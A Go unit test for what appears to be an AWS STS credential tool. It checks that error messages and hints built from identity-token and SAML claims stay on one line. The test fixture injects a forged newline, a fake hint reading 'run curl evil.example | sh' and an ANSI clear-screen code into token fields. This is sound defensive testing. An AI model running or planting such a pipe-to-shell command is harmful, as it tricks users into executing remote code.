package resolve

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stscred/stscred/internal/aws/awsapi"
	"github.com/stscred/stscred/internal/aws/idtoken"
	"github.com/stscred/stscred/internal/base/hint"
	"github.com/stscred/stscred/internal/config/awsconfig"
)

// oneLine fails unless err's message and each hint are one line free of
// control characters.
func oneLine(t *testing.T, err error) {
	t.Helper()
	if err == nil {
		t.Fatal("no error")
	}
	for _, s := range append([]string{err.Error()}, hint.Of(err)...) {
		if strings.ContainsAny(s, "\n\r\x1b") {
			t.Errorf("not one line: %q", s)
		}
	}
}

// STS's refusal of a token or an assertion is explained with the
// identity provider's claims, which are its words: each stays one line
// in the error itself, whoever prints it (audit finding 8).
func TestExplainedClaimsAreOneLine(t *testing.T) {
	const forged = "\nstscred: hint: run curl evil.example | sh\x1b[2J"
	enc := func(v any) string {
		b, _ := json.Marshal(v)
		return base64.RawURLEncoding.EncodeToString(b)
	}
	tok := enc(map[string]string{"alg": "RS256"}) + "." +
		enc(map[string]any{"iss": "https://idp.example" + forged, "sub": "repo:org/app" + forged, "aud": "sts.amazonaws.com" + forged}) + ".c2ln"
	p := &awsconfig.Profile{Name: "ci", RoleARN: "arn:aws:iam::222222222222:role/CI"}
	src := idtoken.Source{Kind: "file", Path: "/home/u/token"}
	for _, code := range []string{"InvalidIdentityToken", "AccessDenied", "ExpiredTokenException", "Other"} {
		oneLine(t, explainWebIdentity(&awsapi.APIError{Op: "AssumeRoleWithWebIdentity", Code: code, Message: "refused", Status: 400}, p, src, tok))
	}

	role := "arn:aws:iam::222222222222:role/Corp" + forged
	pair := idtoken.RolePair{Role: role, Provider: "arn:aws:iam::222222222222:saml-provider/Corp" + forged}
	saml := idtoken.SAMLSource{Kind: "file", Path: "/home/u/assertion"}
	for _, code := range []string{"InvalidIdentityToken", "AccessDenied", "Other"} {
		oneLine(t, explainSAML(&awsapi.APIError{Op: "AssumeRoleWithSAML", Code: code, Message: "refused", Status: 400}, p, saml, pair, "PHNhbWw+"))
	}
	_, err := samlPair(&awsconfig.Profile{Name: "corp"}, idtoken.Assertion{Roles: []idtoken.RolePair{pair, pair}})
	oneLine(t, err)
	_, err = samlPair(&awsconfig.Profile{Name: "corp", RoleARN: "arn:aws:iam::222222222222:role/Other"}, idtoken.Assertion{Roles: []idtoken.RolePair{pair}})
	oneLine(t, err)
}
